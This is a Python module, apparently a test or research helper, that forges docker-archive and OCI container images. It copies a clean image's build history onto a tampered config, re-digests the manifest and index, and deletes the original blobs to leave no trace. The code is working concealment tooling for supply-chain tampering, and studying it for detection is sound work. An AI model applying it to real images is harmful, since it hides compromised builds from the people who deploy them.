"""Forge an exported image the way a careful attacker would: give its config the
clean image's history (created_by entry by entry, and the classic builder's
container_config.Cmd), or change config keys with the history left as it was,
then make every digest and size consistent again.

Two layouts are rewritten in place in an extracted directory:
- docker-archive (docker save, containers/image): manifest.json + <hex>.json config;
  legacy <id>/json and repositories are left to the tool that re-packs it
  (docker load + docker save, or skopeo copy), which writes them consistently.
- OCI layout: index.json -> manifest blob -> config blob, all re-digested.
"""

from __future__ import annotations

import copy
import hashlib
import json
import tarfile
from pathlib import Path


def forge_config(cfg: dict, clean: dict | None, changes: dict) -> dict:
    """The config an attacker ships. `clean`: copy its history's created_by (and
    container_config.Cmd); `changes`: config keys set (Env: entries appended)."""
    out = copy.deepcopy(cfg)
    if clean is not None:
        hist, chist = out.get("history") or [], clean.get("history") or []
        if len(hist) != len(chist):
            raise ValueError(f"history lengths differ: {len(hist)} vs {len(chist)}")
        for h, ch in zip(hist, chist):
            if h.get("empty_layer", False) != ch.get("empty_layer", False):
                raise ValueError("empty_layer pattern differs from the clean image")
            # buildah's comment names the parent intermediate image ("FROM 877d362ee02a"):
            # the poisoned build's would differ from the clean one's after the changed step.
            for key in ("created_by", "comment"):
                if key in ch:
                    h[key] = ch[key]
                else:
                    h.pop(key, None)
        cc, ccc = out.get("container_config"), clean.get("container_config")
        if isinstance(cc, dict) and isinstance(ccc, dict) and "Cmd" in ccc:
            cc["Cmd"] = ccc["Cmd"]
    c = out.setdefault("config", {})
    for key, value in changes.items():
        if key == "Env":
            c["Env"] = list(c.get("Env") or []) + list(value)
        else:
            c[key] = value
    return out


def dumps(obj: dict) -> bytes:
    # Compact, key order kept: what docker and containers/image write.
    return json.dumps(obj, separators=(",", ":")).encode()


def poisoned_history_indices(cfg: dict, clean: dict) -> list[int]:
    return [
        i
        for i, (h, ch) in enumerate(zip(cfg.get("history") or [], clean.get("history") or []))
        if h.get("created_by") != ch.get("created_by")
    ]


# ---- docker-archive ---------------------------------------------------------


def docker_config(root: Path) -> tuple[dict, str]:
    man = json.loads((root / "manifest.json").read_text())
    name = man[0]["Config"]
    return json.loads((root / name).read_text()), name


def rewrite_docker_dir(root: Path, new_cfg: dict, repo_tag: str) -> str:
    """Write new_cfg as the config of the extracted docker-archive in root; returns its digest."""
    man = json.loads((root / "manifest.json").read_text())
    if len(man) != 1:
        raise ValueError("one image per archive expected")
    old = man[0]["Config"]
    data = dumps(new_cfg)
    hexd = hashlib.sha256(data).hexdigest()
    (root / old).unlink()
    (root / f"{hexd}.json").write_bytes(data)
    man[0]["Config"] = f"{hexd}.json"
    man[0]["RepoTags"] = [repo_tag]
    (root / "manifest.json").write_text(json.dumps(man, separators=(",", ":")))
    # The tool that re-packs the archive writes repositories and the legacy layer json again.
    (root / "repositories").unlink(missing_ok=True)
    return "sha256:" + hexd


# ---- OCI layout -------------------------------------------------------------


def _blob(root: Path, digest: str) -> Path:
    algo, hexd = digest.split(":", 1)
    return root / "blobs" / algo / hexd


def _put(root: Path, data: bytes) -> tuple[str, int]:
    hexd = hashlib.sha256(data).hexdigest()
    p = root / "blobs" / "sha256" / hexd
    p.write_bytes(data)
    return "sha256:" + hexd, len(data)


def oci_config(root: Path) -> dict:
    index = json.loads((root / "index.json").read_text())
    man = json.loads(_blob(root, index["manifests"][0]["digest"]).read_bytes())
    return json.loads(_blob(root, man["config"]["digest"]).read_bytes())


def rewrite_oci_dir(root: Path, new_cfg: dict) -> str:
    """Replace the config of the single image in an OCI layout; re-digest manifest and index."""
    index = json.loads((root / "index.json").read_text())
    if len(index.get("manifests") or []) != 1:
        raise ValueError("one manifest per OCI layout expected")
    mdesc = index["manifests"][0]
    old_man = _blob(root, mdesc["digest"])
    man = json.loads(old_man.read_bytes())
    old_cfg = _blob(root, man["config"]["digest"])
    man["config"]["digest"], man["config"]["size"] = _put(root, dumps(new_cfg))
    mdesc["digest"], mdesc["size"] = _put(root, dumps(man))
    for stale in (old_cfg, old_man):  # the attacker leaves no trace of the real ones
        if stale.exists() and stale not in (_blob(root, man["config"]["digest"]), _blob(root, mdesc["digest"])):
            stale.unlink()
    (root / "index.json").write_text(json.dumps(index, separators=(",", ":")))
    return man["config"]["digest"]


# ---- tar helpers ------------------------------------------------------------


def extract(archive: Path, dest: Path) -> None:
    dest.mkdir(parents=True, exist_ok=True)
    with tarfile.open(archive) as tf:
        tf.extractall(dest, filter="tar")


def pack(src: Path, archive: Path) -> None:
    """Tar a directory as the tools do: relative names, sorted, regular files and dirs."""
    with tarfile.open(archive, "w", format=tarfile.PAX_FORMAT) as tf:
        for p in sorted(src.rglob("*")):
            tf.add(p, arcname=str(p.relative_to(src)), recursive=False)
